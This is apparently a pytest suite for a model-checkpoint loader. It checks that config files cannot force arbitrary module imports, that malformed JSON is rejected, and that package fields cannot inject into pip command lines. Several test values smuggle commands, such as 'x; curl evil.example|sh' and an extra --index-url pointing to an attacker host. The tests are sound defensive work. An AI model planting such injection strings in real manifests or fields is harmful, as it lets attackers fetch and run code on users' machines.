"""Files from elsewhere: what they name is not imported, and what they say is not handed on unchecked."""

import json
import sys

import attrs
import pytest

from lmx_core import LanguageModel, load_model, make_config, save_model
from lmx_core.checkpoint import requirements
from lmx_core.errors import CheckpointError, LmxError

from .sources import RELU2


@pytest.fixture
def saved(plugins, tmp_path):
    """A model with a plugin's FFN, saved; and the directory its plugin is in."""
    site = plugins.install("acme-ffn", {"ffn.leaky": "acme_ffn:ReLU2"}, RELU2)
    config = make_config("llama", size="tiny")
    save_model(LanguageModel(attrs.evolve(config, block=attrs.evolve(config.block, ffn="leaky"))), tmp_path / "model")
    return tmp_path / "model", site


def record_of(path):
    return json.loads((path / "config.json").read_text())


def test_nothing_that_a_file_names_is_imported(plugins, saved, tmp_path):
    path, _ = saved
    (tmp_path / "evil.py").write_text("raise SystemExit('imported')")
    record = record_of(path)
    for each in record["components"]:
        each["entry_point"] = "evil:Evil"
    (path / "config.json").write_text(json.dumps(record))
    plugins.add_site(tmp_path)
    load_model(path)
    assert "evil" not in sys.modules
    for name in ("evil:Evil", "evil.Evil", "../evil"):
        text = json.dumps(record).replace('"leaky"', json.dumps(name))
        (path / "config.json").write_text(text)
        with pytest.raises(LmxError):
            load_model(path)
        assert "evil" not in sys.modules


@pytest.mark.parametrize(
    "record",
    [
        '{"lmx_format": 1, "model": {}, "components": [1]}',
        '{"lmx_format": 1, "model": {}, "components": [{"kind": "ffn"}]}',
        '{"lmx_format": 1, "model": {}, "components": [{"kind": "ffn", "name": 1, "distribution": "a", '
        '"version": "1", "entry_point": "a:b"}]}',
        "[]",
        "{}",
        '{"lmx_format": 9, "model": 1, "components": []}',
    ],
)
def test_a_damaged_record_is_an_error_for_people(tmp_path, record):
    (tmp_path / "config.json").write_text(record)
    for read in (load_model, requirements):
        with pytest.raises(LmxError, match=r"config.json (is damaged or not lmx's|has format 9)"):
            read(tmp_path)


@pytest.mark.parametrize("key", ["distribution", "version"])
@pytest.mark.parametrize(
    "value", ["x; curl evil.example|sh", "x\n--index-url https://evil.example", "-e x", "x @ y", ""]
)
def test_what_pip_will_be_given_is_a_name_and_a_version(saved, key, value):
    """A model from elsewhere must not write a command line."""
    path, _ = saved
    record = record_of(path)
    record["components"][0][key] = value
    (path / "config.json").write_text(json.dumps(record))
    for read in (load_model, requirements):
        with pytest.raises(CheckpointError, match="config.json is damaged") as refused:
            read(path)
        assert "pip install" not in str(refused.value)


@pytest.mark.parametrize("file", ["config.json", "tokenizer.json", "training.json"])
def test_a_file_that_is_nothing_but_brackets(saved, file):
    path, _ = saved
    (path / file).write_text("[" * 100_000)
    with pytest.raises(LmxError, match="damaged"):
        requirements(path)
